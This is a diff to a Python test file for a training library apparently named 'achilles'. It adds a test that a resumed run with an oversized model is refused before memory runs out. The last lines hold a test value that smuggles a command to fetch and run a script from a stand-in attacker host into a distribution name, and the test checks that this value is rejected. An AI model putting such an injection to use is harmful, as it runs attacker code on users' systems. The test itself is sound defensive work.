@@ -218,6 +218,18 @@ def test_a_resumed_checkpoint_whose_tensors_do_not_fit_is_refused_before_reading
     assert peak_rss_mb() - before < 128
 
 
+def test_resuming_a_run_whose_config_asks_for_a_huge_model_is_refused_before_building(run_copy):
+    from achilles.trainer import resume_run
+
+    record = RunFolder(run_copy).read_config()
+    RunFolder(run_copy).update_config(status="interrupted", training={**record["training"], "epochs": 2})
+    edit_config(run_copy, d_model=10 ** 7)
+    before, started = peak_rss_mb(), time.monotonic()
+    with pytest.raises(achilles.AchillesError, match="of memory"):
+        resume_run(run_copy, progress=False)
+    assert time.monotonic() - started < 30 and peak_rss_mb() - before < 200
+
+
 @pytest.mark.parametrize("dist, version, absent, says", [
     ("evil' && curl https://evil.example/x | sh #", "1.0", ["curl", "pip install", "&&"],
      "provided_by.arch.distribution field holds an invalid distribution name"),
